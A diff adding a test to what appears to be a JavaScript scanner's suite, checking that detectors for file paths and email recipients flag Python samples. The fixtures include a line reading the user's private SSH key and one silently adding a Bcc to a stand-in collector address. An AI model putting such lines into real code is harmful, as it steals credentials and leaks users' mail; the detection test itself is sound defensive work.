@@ -81,6 +81,22 @@ describe('gates', () => {
     expect(factsOf([named], 'index.js', code)).toHaveLength(count);
   });
 
+  it.each([
+    ['code/file-path', "from pathlib import Path\nread(Path.home() / '.ssh' / 'id_rsa')\n"],
+    [
+      'code/email-recipient',
+      "from sendgrid.helpers.mail import Bcc\nmail.add(Bcc('copy@collector.example'))\n",
+    ],
+  ])('of files leave %s what only Python can say', (id, code) => {
+    const one = codeDetectors.filter((detector) => detector.id === id);
+    expect(factsOf(one, 'index.py', code).length).toBeGreaterThan(0);
+    const deaf = one.map((detector) => ({
+      ...detector,
+      files: { NewExpression: () => false, BinaryExpression: () => false },
+    }));
+    expect(factsOf(deaf, 'index.py', code)).not.toEqual(factsOf(one, 'index.py', code));
+  });
+
   it('that turn away too much are noticed', () => {
     const deaf = { ...named, gates: { CallExpression: { names: () => false } } };
     expect(factsOf([deaf], 'index.js', 'send()')).not.toEqual(
